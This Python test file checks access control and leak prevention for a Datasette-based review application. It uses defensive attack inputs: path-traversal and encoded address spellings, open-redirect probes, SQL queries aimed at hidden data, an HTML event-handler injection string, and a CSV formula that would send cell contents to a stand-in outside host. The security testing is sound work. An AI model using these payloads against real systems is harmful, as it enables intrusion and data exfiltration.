"""Who may not see a review sees nothing of it, whatever address of ours or of Datasette's they try.

The addresses are made from the routes, tables, views and queries there are, so that new ones are tried by
themselves. The reviews are full of words that stand nowhere else (see `planted`): one of them in an answer,
its headers included, is a leak, unless it was in the address that was asked for.
"""

from __future__ import annotations

import csv
import io
import itertools
import re
import secrets
import shutil
import sqlite3
import zipfile
from collections.abc import AsyncIterator, Iterable
from contextlib import asynccontextmanager
from copy import deepcopy
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote

import httpx
import pytest
import pytest_asyncio
from addresses import fill
from argon2 import PasswordHasher
from assessment_example import tables_of as all_rows
from datasette.app import Datasette
from planted import (
    FIRST,
    KEY,
    LEAD,
    MARKUP,
    MODERATOR,
    NAMES,
    OPEN,
    OTHER,
    PLANTED,
    SECOND,
    SOURCE,
    plant,
    plant_everywhere,
    tables_of,
    word,
)

from evidence.coding.second_coding import hand_in
from joint_review.metadata import QUERIES, metadata
from joint_review.opening import open_programme
from joint_review.web import register_routes
from joint_review.web.access import FILES, actor_of
from joint_review.web.page import Page
from joint_review.web.routes import all_forms, all_pages
from joint_review.web.signin import COOKIE, cookie_ending
from programme.accounts import open_accounts
from programme.hidden import FROM_PEOPLE
from programme.permissions import Action, Held, Role, make_actor
from programme.reviews import find_review
from programme.users import give_role

pytestmark = [
    pytest.mark.asyncio(loop_scope="module"),
    # Datasette asks SQLite for its version through connections it never closes (Python 3.13 warns of it).
    pytest.mark.filterwarnings("ignore:unclosed database:ResourceWarning"),
]

Said = dict[str, Any] | None
HERE = {"origin": "http://localhost"}
REVIEW = f"/reviews/{KEY}"


def person(name: str, *held: tuple[str, str | None]) -> dict[str, Any]:
    """Somebody who is signed in with these roles."""
    of_all = [role for role, review in held if review is None]
    return {"id": name, "held": [list(one) for one in held], "all_reviews": of_all}


BUT_ADMINISTRATORS = [role for role in Role if role is not Role.ADMINISTRATOR]
STRANGERS: dict[str, Said] = {
    "anonymous": None,
    "without a role": person("nobody-1"),
    "an administrator": person("administrator-1", ("administrator", None)),
    **{f"a {role} of another review": person("else-1", (role, OTHER)) for role in BUT_ADMINISTRATORS},
    "signed in by another plugin": {
        "id": ["root"],
        "role": "moderator",
        "roles": ["moderator"],
        "all_reviews": "moderator",
        "held": [["moderator"]],
        "root": True,
    },
    "with roles there are not": {"id": "x", "held": [["king", None]], "all_reviews": ["king", None]},
}
"""Who may see nothing at all of the review."""
OF_ONE = person("all-1", *((role, KEY) for role in ("reviewer", "lead", "moderator")))
"""Who may see the review, but no other, and so nothing that Datasette itself shows."""
ALL = person("moderator-1", ("moderator", None))
WITHIN: dict[str, dict[str, Any]] = {
    "reviewer": person(FIRST, ("reviewer", KEY)),
    "lead": person(LEAD, ("lead", KEY)),
    "moderator": person(MODERATOR, ("moderator", KEY)),
    "manager": person("manager-1", ("manager", KEY)),
    "coordinator": person("coordinator-1", ("coordinator", KEY)),
    "authority": person("authority-1", ("authority", KEY)),
}

PUBLIC = re.compile(r"/-/(sign-in|sign-out|logout|actor(\.json)?|allow-debug|static.*)|/favicon\.ico")
"""What answers to everybody: it tells nothing but who is asking."""


# --- the addresses -----------------------------------------------------------------------------------------


PARAMETERS = (
    ".json?_shape=array&_labels=on&_size=max",
    ".json?_facet={column}&_facet_size=max",
    ".json?_search=zqzqtextqzqz&_nocount=1&_nofacet=1",
    ".json?_where=1=1&_sort={column}&{column}__contains=zq",
    ".json?_through=%7B%22table%22:%22{table}%22,%22column%22:%22{column}%22,%22value%22:%221%22%7D",
    ".csv?_stream=1&_labels=on&_header=off",
    "?_format=json&_next=1",
    "/1.blob?_blob_column={column}",
    "/-/autocomplete.json?q=zq",
)
"""What is put behind the address of a table."""
OF_DATABASE = (
    "?sql={sql}",
    ".json?sql={sql}",
    ".csv?sql={sql}",
    "/-/query.json?sql={sql}",
    "/-/schema",
    "/-/schema.json",
    ".db",
    "/-/query/parameters?sql={sql}",
)
SQL = quote("select text from evidence")


def in_master(datasette: Datasette, database: str) -> list[tuple[str, str]]:
    """The tables (those of search too) and views of a database, each with its first column."""
    path = datasette.databases[database].path
    if path is None:
        return []
    with sqlite3.connect(path) as connection:
        sql = "select name from sqlite_master where type in ('table', 'view') order by name"
        found = [
            (name, connection.execute(f'pragma table_info("{name}")').fetchone()[1])
            for (name,) in connection.execute(sql)
        ]
    connection.close()
    return found


def of_datasette(datasette: Datasette) -> list[str]:
    """Every address of Datasette's own, for every database, table, view, table of search and query."""
    patterns = [route[0].pattern for route in datasette._routes()]
    ours = {pattern for pattern, _ in register_routes()}
    fixed = [one for one in patterns if not ("<database>" in one or "static" in one or one in ours)]
    found = [path for one in fixed for path in fill(one, {"rest": "", "path": "x"})]
    for database in [*datasette.databases, "_internal", "nothing"]:
        names: list[tuple[str, str]] = []
        if database in datasette.databases:
            names = [*in_master(datasette, database), *((name, "") for name in QUERIES)]
        found += [f"/{database}{more.format(sql=SQL)}" for more in OF_DATABASE]
        for pattern in patterns:
            if "<table>" not in pattern and "<database>" in pattern:
                found += fill(pattern, {"database": database})
        for table, column in [*names, ("nothing", "x")]:
            # Those of the first working database in every way, of the others in the main ways.
            every = database == "programme"
            for pattern in patterns:
                if "<table>" in pattern:
                    filled = fill(pattern, {"database": database, "table": table, "pks": "1"})
                    found += filled if every else filled[1:2]
            if every:
                address = f"/{database}/{table}"
                found += [address + more.format(table=table, column=column) for more in PARAMETERS]
    return list(dict.fromkeys(found))


def of_ours(forms: bool = True) -> list[str]:
    """Every address of a page, picture or form of ours, with and without .json."""
    posted = {rf"^{form.path}(?P<format>\.json)?$" for form in all_forms()}
    patterns = [one for one, _ in register_routes() if not one.startswith("^/-/")]
    found = [path for one in patterns if forms or one not in posted for path in fill(one, NAMES)]
    return list(dict.fromkeys(found))


def odd(path: str) -> list[str]:
    """The same address as it is not usually written."""
    first, _, rest = path[1:].partition("/")
    last = f"/{first}/{rest}"
    return [
        f"/{first.title()}/{rest}",
        f"{last}/",
        f"//{first}/{rest}",
        f"/{first}//{rest}",
        f"/{first}%2F{rest}",
        f"/{first}~2F{rest}",
        f"/{first}/{rest.replace('-', '~2D').replace('_', '~5F')}",
        f"/{first}/x/../{rest}",
        f"/./{first}/{rest}",
        f"/%2e%2e/{first}/{rest}",
        f"/-/../{first}/{rest}",
        f"/-/static/../../{first}/{rest}",
        f"/{quote(first[0])}{first[1:]}/%{ord(rest[0]):02x}{rest[1:]}" if rest else f"/%{ord(first[0]):02x}",
        *(f"{last}{ending}" for ending in (".JSON", ".jsono", ".Json", ".json/", ".csv", ".svg", ".html")),
        *(f"{last}{more}" for more in ("?_format=json", "?_shape=array", "%00", "%0a", ";.css", "?next=//x")),
        f"/{first.upper()}/{rest.upper()}",
        f"/:memory:/{first}/{rest}",
    ]


# --- asking ------------------------------------------------------------------------------------------------


@dataclass
class House:
    """A server over two working databases full of planted words and one that is none."""

    datasette: Datasette
    folder: Path

    def client(self, said: Said, **more: Any) -> httpx.AsyncClient:
        """A client of somebody who is signed in with this."""
        cookies = {"ds_actor": self.datasette.sign({"a": said}, "actor")} if said else {}
        # Datasette fails on a number asked for as a file, when it has begun to answer.
        transport = httpx.ASGITransport(app=self.datasette.app(), raise_app_exceptions=False)
        return httpx.AsyncClient(
            transport=transport, base_url="http://localhost", **{"cookies": cookies, **more}
        )

    async def get(self, path: str, said: Said = ALL) -> httpx.Response:
        async with self.client(said) as client:
            return await client.get(f"http://localhost{path}")

    def rows(self, sql: str, *values: Any) -> list[tuple[Any, ...]]:
        connection = sqlite3.connect(self.folder / "programme.db")
        found = connection.execute(sql, values).fetchall()
        connection.close()
        return found


def text_of(response: httpx.Response) -> str:
    """What an answer says; of a workbook or a ZIP file all that is packed in it."""
    if not response.content.startswith(b"PK"):
        return response.text
    with zipfile.ZipFile(io.BytesIO(response.content)) as packed:
        return " ".join(packed.read(name).decode("utf-8", "replace") for name in packed.namelist())


def planted_in(response: httpx.Response, *asked: str) -> set[str]:
    """The planted words in an answer or its headers that were not in what was asked for."""
    own = {one for text in asked for one in PLANTED.findall(unquote(unquote(text)))}
    text = f"{response.headers} {text_of(response)}"
    return set(PLANTED.findall(unquote(text.replace("~", "%")))) - own


def without_what_was_asked(response: httpx.Response) -> str:
    """The text without the address to go on to after signing in, and without the form's token."""
    return re.sub(r'name="(next|csrftoken)" value="[^"]*"', "", response.text)


@asynccontextmanager
async def opened(
    *paths: Path, told: dict[str, Any] | None = None, immutable: bool = False
) -> AsyncIterator[House]:
    settings = {"num_sql_threads": 1, "allow_download": True, "sql_time_limit_ms": 30_000}
    told = {} if told is None else told
    kept = {"config": told} if hasattr(Datasette, "allowed") else {}
    files = {"immutables" if immutable else "files": [str(path) for path in paths]}
    datasette = Datasette(**{"files": []} | files, metadata=told, settings=settings, **kept)
    await datasette.invoke_startup()
    try:
        yield House(datasette, paths[0].parent)
    finally:
        for database in datasette.databases.values():
            for connection in getattr(database, "_all_file_connections", ()):
                connection.close()
            FILES.pop(database, None)


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The databases: programme.db, second.db and notes.db; never written to."""
    folder = tmp_path_factory.mktemp("planted")
    plant_everywhere(plant(folder), folder / "second.db")
    notes = sqlite3.connect(folder / "notes.db")
    notes.execute(f"create table note as select '{word('privatenote')}' as text")
    notes.commit()
    notes.close()
    return folder


QUERIES_ALONE = {"databases": {name: {"queries": deepcopy(QUERIES)} for name in ("programme", "second")}}
"""The queries, and nothing about who may: what is refused is refused by us alone."""


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def house(made: Path) -> AsyncIterator[House]:
    paths = [made / f"{name}.db" for name in ("programme", "second", "notes")]
    async with opened(*paths, told=QUERIES_ALONE) as found:
        yield found


async def refused_everywhere(
    house: House, said: Said, addresses: Iterable[str], *, sent_on: bool = False
) -> None:
    """Assert that nothing of the reviews is in any answer, and that every one is a refusal.

    `sent_on`: or leads to another address of this server, as Datasette spells it.
    """
    wrong = []
    async with house.client(said) as client:
        for path in addresses:
            answer = await client.get(path)
            leaked = planted_in(answer, path)
            is_refusal = answer.status_code == 403 or PUBLIC.fullmatch(path.partition("?")[0])
            if sent_on and answer.is_redirect:
                is_refusal = answer.headers["location"].startswith("/")
            if leaked or not is_refusal:
                wrong.append((path, answer.status_code, sorted(leaked)[:3]))
    assert wrong == []


every_stranger = pytest.mark.parametrize("who", STRANGERS)


# --- who may see nothing of a review -----------------------------------------------------------------------


@every_stranger
async def test_no_page_picture_or_form_of_a_review_answers_to_who_has_no_role_in_it(
    house: House, who: str
) -> None:
    addresses = [path for path in of_ours() if path not in LISTS or who in CLOSED]
    assert len(addresses) > 80
    await refused_everywhere(house, STRANGERS[who], addresses)


LISTS = {"/", "/reviews", *(f"/reviews{ending}" for ending in (".json", ".xlsx", ".csv", ".zip"))}
"""The list of reviews, which shows to everybody with a role in any the reviews they have it in."""
CLOSED = {name for name, said in STRANGERS.items() if "another review" not in name}


async def test_a_role_in_one_review_opens_the_list_of_that_one_alone(house: House) -> None:
    for who in STRANGERS.keys() - CLOSED:
        actor = actor_of(STRANGERS[who])
        lists_reviews = actor is not None and actor.may(Action.SEE_REVIEW, OTHER)
        for path in sorted(LISTS):
            answer = await house.get(path, STRANGERS[who])
            # Whoever sees a report alone is shown where it is, and has no list as a file.
            opens = lists_reviews or not path.endswith((".xlsx", ".csv", ".zip"))
            assert (answer.status_code, planted_in(answer)) == (200 if opens else 403, set()), path
    assert planted_in(await house.get("/reviews", WITHIN["reviewer"])) >= {KEY, word("authority")}


@pytest.mark.parametrize("who", ["anonymous", "of one review"])
async def test_no_address_of_datasette_answers_to_who_may_not_see_all_reviews(house: House, who: str) -> None:
    said = OF_ONE if who == "of one review" else STRANGERS[who]
    home = ["/", "/.json", "/.jsono"] if said else []
    addresses = [path for path in of_datasette(house.datasette) if path not in home]
    # What is asked for behind an address is looked at after who asks: once is enough.
    addresses = [path for path in addresses if said is None or "?" not in path]
    assert len(addresses) > 700
    await refused_everywhere(house, said, addresses, sent_on=True)


@every_stranger
async def test_no_table_view_or_query_answers_to_any_wrong_role(house: House, who: str) -> None:
    names = [name for name, _ in in_master(house.datasette, "programme")]
    addresses = [f"/programme/{name}.json" for name in (*names, *QUERIES)]
    addresses += [
        f"/{name}{more.format(sql=SQL)}" for name in ("programme", "second") for more in OF_DATABASE
    ]
    addresses += ["/programme/evidence/1", "/second/review.csv", "/-/databases.json", "/-/metadata.json"]
    await refused_everywhere(house, STRANGERS[who], addresses)


async def test_what_is_told_to_datasette_closes_it_as_well(made: Path) -> None:
    async with opened(made / "programme.db", told=metadata()) as house:
        addresses = ["/programme.json", "/programme/evidence", "/programme/evidence.csv", "/-/databases.json"]
        addresses += ["/programme/why_this_rating.json", f"/programme.json?sql={SQL}", "/programme.db"]
        for said in (*STRANGERS.values(), OF_ONE):
            await refused_everywhere(house, said, addresses)


METHODS = ("HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND")


@pytest.mark.parametrize("who", ["anonymous", "a lead of another review"])
async def test_no_method_gets_round_a_refusal(house: House, who: str) -> None:
    before = house.rows("select count(*) from event")
    addresses = [path for path in of_ours() if not path.endswith(".json") and path not in LISTS]
    addresses += ["/programme", "/programme.json", "/programme/evidence", "/programme/evidence/1.json"]
    addresses += ["/programme/evidence/-/insert", "/programme/why_this_rating", "/second/review.csv"]
    async with house.client(STRANGERS[who], headers=HERE) as client:
        for path, method in itertools.product(addresses, METHODS):
            answer = await client.request(method, path)
            assert not planted_in(answer, path), (method, path)
            assert answer.status_code >= 400 or answer.status_code in (301, 302) or method == "OPTIONS"
            if method == "HEAD":
                assert answer.status_code == 403
    assert house.rows("select count(*) from event") == before


@pytest.mark.parametrize("who", ["anonymous", "a lead of another review"])
async def test_no_odd_spelling_of_an_address_gets_round_a_refusal(house: House, who: str) -> None:
    pages = (REVIEW, f"{REVIEW}/items", f"{REVIEW}/items/1", f"{REVIEW}/sources/{SOURCE}", "/compare")
    tables = ("/programme", "/programme/evidence", "/programme/evidence/1", "/programme/untagged_items")
    async with house.client(STRANGERS[who]) as client:
        for path in [spelled for one in (*pages, *tables) for spelled in odd(one)]:
            for _ in range(5):
                answer = await client.get(f"http://localhost{path}")
                assert not planted_in(answer, path), path
                assert answer.status_code in (301, 302, 403), (path, answer.status_code)
                if not answer.is_redirect:
                    break
                path = answer.headers["location"]
                assert re.match(r"/(?![/\\])", path), path
            else:
                raise AssertionError(f"{path} leads round in circles")


# What is there and what is not

PAIRS = (
    (REVIEW, "/reviews/nothing"),
    (f"{REVIEW}.json", "/reviews/nothing.json"),
    (f"{REVIEW}/items/1", f"{REVIEW}/items/999999"),
    (f"{REVIEW}/sources/{SOURCE}", f"{REVIEW}/sources/none"),
    (f"{REVIEW}/challenges/1", f"{REVIEW}/challenges/99"),
    (f"{REVIEW}/uncertainty/profile.svg", "/reviews/nothing/uncertainty/profile.svg"),
    ("/programme", "/nothing"),
    ("/programme.json", "/nothing.json"),
    ("/programme.db", "/nothing.db"),
    ("/programme/evidence", "/programme/nothing"),
    ("/programme/evidence.json", "/nothing/nothing.json"),
    ("/programme/evidence/1", "/programme/evidence/999999"),
    ("/programme/evidence/1.json", "/programme/evidence/999999.json"),
    ("/programme/evidence.csv", "/programme/nothing.csv"),
    ("/programme/untagged_items", "/programme/no_such_query"),
    ("/programme/evidence?_facet=kind", "/programme/evidence?_facet=nothing"),
    ("/programme/evidence/1", "/nowhere/at/all/there"),
    (f"/programme.json?sql={SQL}", "/programme.json?sql=select+nothing"),
)


@every_stranger
async def test_what_is_there_and_what_is_not_are_answered_alike(house: House, who: str) -> None:
    async with house.client(STRANGERS[who]) as client:
        for pair in PAIRS:
            there, nothing = [await client.get(path) for path in pair]
            assert there.status_code == nothing.status_code == 403, pair
            assert without_what_was_asked(there) == without_what_was_asked(nothing), pair
            differs = {name for name, value in there.headers.items() if nothing.headers.get(name) != value}
            assert differs <= {"set-cookie"}, pair


@pytest.mark.parametrize("path", ["//elsewhere.example/", "//elsewhere.example//", "/\\elsewhere.example/"])
async def test_no_address_leads_to_another_site(house: House, path: str) -> None:
    for said in (None, ALL):
        answer = await house.get(path, said)
        location = answer.headers.get("location", "/")
        assert re.match(r"/(?![/\\])", location), location


# --- what each may see, so that the above can fail ---------------------------------------------------------


async def test_who_may_see_all_reviews_finds_every_planted_word_but_what_is_hidden(house: House) -> None:
    with sqlite3.connect(house.folder / "second.db") as connection:
        columns = {
            table: [name for _, name, kind, *_ in connection.execute(f'pragma table_info("{table}")')]
            for table in tables_of(connection)
        }
        text = {
            table: {
                name
                for _, name, kind, *_ in connection.execute(f'pragma table_info("{table}")')
                if kind.lower() == "text"
            }
            for table in columns
        }
    connection.close()
    assert len(columns) > 40
    for table, names in columns.items():
        for ending in (".json?_shape=array&_size=max", ".csv?_size=max", "?_size=5"):
            answer = await house.get(f"/second/{table}{ending}")
            assert answer.status_code == 200
            seen = planted_in(answer, "")
            hidden = FROM_PEOPLE.get(table, frozenset())
            for column in names:
                shows = any(one.startswith(f"zqzq{table}__{column}__") for one in seen)
                assert shows is (column in text[table] and column not in hidden), (table, column, ending)


async def test_each_role_sees_every_page_it_may_and_no_other(house: House) -> None:
    for role, said in WITHIN.items():
        actor = make_actor(said["id"], [Held(Role(role), KEY)])
        async with house.client(said) as client:
            for page, _ in all_pages():
                if isinstance(page, Page):
                    path = fill(page.path, NAMES)[0]
                    answer = await client.get(f"{path}.json")
                    of = KEY if "<review>" in page.path else None
                    may = any(actor.may(action, of) for action in (page.action, *page.also))
                    may = may or path == "/reviews"
                    assert (answer.status_code != 403) is may, (role, path)
                    if answer.status_code == 200:
                        assert planted_in(answer), (role, path)
                    else:
                        assert answer.status_code in (403, 404), (role, path, answer.text)
    assert (await house.get("/compare.json")).status_code == 200


async def test_no_word_that_people_typed_becomes_markup(house: House) -> None:
    # A CSV file holds what people typed as it is, and is no page to any browser.
    pages = [path for path in of_ours(forms=False) if not path.endswith((".json", ".csv"))]
    datasette = [f"/programme/{name}" for name, _ in in_master(house.datasette, "programme")]
    datasette += ["/programme/evidence/1", "/programme/source/1", "/programme/review/2"]
    shown = 0
    for path in (*pages, *datasette, f"{REVIEW}/items?search={quote(MARKUP)}", f"{REVIEW}/items/E80"):
        answer = await house.get(path, {"id": "root"})
        assert answer.status_code in (200, 400, 404), path
        assert "<x onclick" not in answer.text, path
        shown += "&lt;x onclick" in answer.text
    assert shown > 25


FORMULA = '=HYPERLINK("http://elsewhere.example/"&A1)'


@pytest.mark.parametrize("more", [".csv", ".csv?_dl=1", ".csv?_stream=1"])
async def test_no_table_goes_out_with_a_formula(made: Path, tmp_path: Path, more: str) -> None:
    path = Path(shutil.copy(made / "programme.db", tmp_path / "programme.db"))
    db = open_programme(path)
    give_role(db, FIRST, "moderator", None, by=FORMULA, at=datetime.now(UTC))
    db.conn.close()
    async with opened(path, told=metadata()) as house:
        answer = await house.get(f"/programme/event{more}{'&' if '?' in more else '?'}_size=max")
        while answer.is_redirect:
            answer = await house.get(answer.headers["location"])
        cells = [cell for row in csv.reader(io.StringIO(answer.text, newline="")) for cell in row]
        assert f"'{FORMULA}" in cells and FORMULA not in cells
        assert len(cells) % 10 == 0 and "1" in cells
        data = await house.get("/programme/event.json?_shape=array&_size=max")
        assert FORMULA in [row["by"] for row in data.json()]


# --- before its time ---------------------------------------------------------------------------------------

EARLY = {word("codingopen"), word("vote")}
"""The note of a coding whose batch is open, and the reason of a vote of a panel that is voting."""
LATE = {word("codingdone"), word("shownvote")}
"""The same of a batch that was handed in, and a panel that has voted."""


async def test_no_page_tells_a_vote_or_a_blind_coding_before_its_time_to_anybody(house: House) -> None:
    seen: set[str] = set()
    for said in (WITHIN["reviewer"], person("lead-9", ("lead", None), ("moderator", None)), {"id": "root"}):
        # As root the pages themselves, as others their data.
        paths = [
            path
            for path in of_ours(forms=False)
            if path.endswith((".json", ".svg", ".zip", ".xlsx", ".csv")) or len(said) == 1
        ]
        async with house.client(said) as client:
            for path in paths:
                answer = await client.get(path.replace("/panel/carers", f"/panel/{OPEN}"))
                assert not EARLY & planted_in(answer, ""), (path, said)
                seen |= planted_in(answer, "")
    assert LATE & seen, "once it may be seen, it is"


async def test_no_address_of_datasette_tells_a_vote_or_a_blind_coding_before_its_time(house: House) -> None:
    seen: set[str] = set()
    async with house.client(ALL) as client:
        for path in of_datasette(house.datasette):
            if re.fullmatch(r"/programme(/.*)?(_labels=on.*|/1\.json|\.csv|sql=.*)", path):
                answer = await client.get(path)
                assert not EARLY & planted_in(answer, ""), path
                seen |= planted_in(answer, "")
    assert word("shownvote") in seen and word("finding") in seen


SPIES = (
    "select level, level_key, because from vote",
    "select direction, significance, score, note, digest from coding",
    "select domain_id from coding_domain",
    "select direction, note from shown_coding",
    "select salt from seal",
    "with shown_coding as (select direction, note from coding) select * from shown_coding",
    "with shown_vote as (select level_key, because from vote) select * from shown_vote",
    "select max(direction), max(note), min(significance) from main.coding",
    "select (select note from coding order by 1 desc limit 1), (select max(because) from VOTE)",
    "select json_group_array(note) from coding having count(note) > 0",
    "select 1 from vote where because like 'zq%'",
    "select 1 from coding where direction = 'weakness' or significance = 3",
    "select 1 from coding_domain c join domain d on d.id = c.domain_id",
    "select 1 from coding group by direction having direction is not null",
    "select sum(length(salt)) from seal",
)


@pytest.mark.parametrize("sql", SPIES)
async def test_sql_of_ones_own_reads_nothing_of_votes_codings_and_salts(house: House, sql: str) -> None:
    answer = await house.get(f"/programme.json?_shape=arrays&sql={quote(sql)}")
    assert answer.status_code == 200, answer.text
    assert all(
        value in (None, "[null,null,null,null,null]") for row in answer.json()["rows"] for value in row
    )
    # The same on the file itself finds something.
    found = house.rows(sql)
    assert found and any(value is not None for row in found for value in row)


async def test_pages_read_codings_on_the_connection_on_which_sql_does_not(house: House) -> None:
    sql = f"/programme.json?_shape=arrays&sql={quote('select note from coding')}"
    for _ in range(3):
        assert {row[0] for row in (await house.get(sql)).json()["rows"]} == {None}
        apart = await house.get(f"{REVIEW}/disagreements.json?only=all", WITHIN["lead"])
        assert word("codingdone") in apart.text and word("codingopen") not in apart.text


async def test_a_coder_with_a_role_for_all_reviews_sees_no_table_until_the_batch_is_handed_in(
    made: Path, tmp_path: Path
) -> None:
    path = Path(shutil.copy(made / "programme.db", tmp_path / "programme.db"))
    db = open_programme(path)
    give_role(db, SECOND, "moderator", None, by="administrator-1", at=datetime.now(UTC))
    accounts = open_accounts(path, PasswordHasher(time_cost=1, memory_cost=64, parallelism=1))
    token = accounts.begin(SECOND, at=datetime.now(UTC), tokens=secrets.token_urlsafe)
    cookie = {f"{COOKIE}{cookie_ending([path])}": token}
    try:
        async with opened(path, told=metadata()) as house, house.client(None, cookies=cookie) as client:
            tables = ["/programme/evidence.json", "/programme/tag.csv", "/programme", "/-/databases.json"]
            for address in tables:
                answer = await client.get(address)
                assert answer.status_code == 403 and planted_in(answer, address) <= {SECOND}
            assert (await client.get("/compare.json")).status_code == 403
            assert "Tables and queries" not in (await client.get("/reviews")).text
            batch = 2
            hand_in(db, find_review(db, KEY), batch, by=SECOND, because="Enough.", at=datetime.now(UTC))
            assert [(await client.get(address)).status_code for address in tables] == [200] * 4
            assert (await client.get("/compare.json")).status_code == 200
    finally:
        db.conn.close()


async def test_no_working_database_is_downloaded_by_anybody(made: Path) -> None:
    for said in (ALL, {"id": "root"}):
        async with opened(made / "programme.db", told=metadata(), immutable=True) as house:
            assert (await house.get("/programme/evidence.json", said)).status_code == 200
            answer = await house.get("/programme.db", said)
            assert answer.status_code == 403 and b"SQLite format" not in answer.content
    # What is none is, where nothing forbids it.
    async with opened(made / "notes.db", told={"allow": {"id": "root"}}, immutable=True) as alone:
        assert b"SQLite format" in (await alone.get("/notes.db", {"id": "root"})).content


# --- numbers of one review posted to another ---------------------------------------------------------------


def numbers_of(house: House) -> dict[str, Any]:
    """What a form may name, of the review that whoever sends it may not see."""
    [(item,)] = house.rows(
        "select min(e.id) from evidence e join review v on v.id = e.review_id"
        " where v.key = ? and e.withdrawn_event is null",
        KEY,
    )
    return {
        **{"item": str(item), "batch": "2", "target": f"E{item}", "kind": "item", "run": "2"},
        **{"ground": "other", "text": "x", "because": "x", "outcome": "withdrawn", "changed": f"E{item}"},
        **{"direction": "neutral", "significance": "1", "domain": "carers", "quote": "x", "place": "1:0"},
        **{"level": "poor", "member": FIRST, "coder": SECOND, "items": "1", "finding": "x", "note": "x"},
    }


ASKED = {"item", "batch", "target", "kind", "run", "domain"}


async def test_no_page_or_form_of_one_review_touches_or_tells_what_belongs_to_another(
    made: Path, tmp_path: Path
) -> None:
    path = Path(shutil.copy(made / "programme.db", tmp_path / "programme.db"))
    said = person("else-1", *((role, OTHER) for role in ("reviewer", "lead", "moderator")))
    async with opened(path, told=metadata()) as house, house.client(said, headers=HERE) as client:
        given = numbers_of(house)
        token = re.search(r'name="csrftoken" value="([^"]+)"', (await client.get("/-/sign-in")).text)
        assert token
        before = of_review(path)
        asked = "&".join(f"{name}={value}" for name, value in given.items() if name in ASKED)
        for pattern in (page.path for page, _ in all_pages()):
            address = fill(pattern, {**NAMES, "review": OTHER})[0]
            for more in (asked, f"item={given['item']}&without=E{given['item']}&batch=2"):
                answer = await client.get(f"{address}?{more}")
                assert not planted_in(answer, address, unquote(more)), (address, more)
                assert answer.status_code in (200, 303, 400, 403, 404), (address, more)
        for form in all_forms():
            address = fill(form.path, {**NAMES, "review": OTHER})[0]
            for more in ({}, {"item": "", "target": "carers", "run": given["run"]}, {"target": "E1:carers"}):
                sent = {**given, **more, "csrftoken": token[1]}
                answer = await client.post(f"{address}.json", data=sent)
                asked = (address, *map(str, sent.values()))
                assert not planted_in(answer, *asked), (form.name, answer.text)
                assert answer.status_code < 500, (form.name, answer.text)
        assert of_review(path) == before


def of_review(path: Path) -> dict[str, Any]:
    """Every row of the review's own, by table."""
    db = open_programme(path)
    try:
        [number] = db.conn.execute("select id from review where key = ?", [KEY]).fetchone()
        found: dict[str, Any] = {}
        for table, rows in all_rows(db).items():
            columns = [row[1] for row in db.conn.execute(f'pragma table_info("{table}")')]
            if "review_id" in columns:
                found[table] = [row for row in rows if row[columns.index("review_id")] == number]
        own = {row[0] for row in found["evidence"]}
        for table in ("tag", "coding", "coding_batch_item", "settlement", "anchor"):
            names = [row[1] for row in db.conn.execute(f'pragma table_info("{table}")')]
            at = names.index("evidence_id")
            found[table] = [row for row in all_rows(db)[table] if row[at] in own]
        found["vote"] = [row for row in all_rows(db)["vote"] if row[2]]
        return found
    finally:
        db.conn.close()


async def test_forms_are_refused_to_every_role_that_may_not_send_them(house: House) -> None:
    before, given = house.rows("select count(*) from event"), numbers_of(house)
    for said in (*WITHIN.values(), *STRANGERS.values(), OF_ONE):
        actor = actor_of(said)
        async with house.client(said, headers=HERE) as client:
            token = re.search(r'name="csrftoken" value="([^"]+)"', (await client.get("/-/sign-in")).text)
            assert token
            for form in all_forms():
                if actor is None or not actor.may(form.action, KEY):
                    address = fill(form.path, NAMES)[0]
                    answer = await client.post(f"{address}.json", data={**given, "csrftoken": token[1]})
                    assert answer.status_code == 403, (said, form.name)
    assert house.rows("select count(*) from event") == before
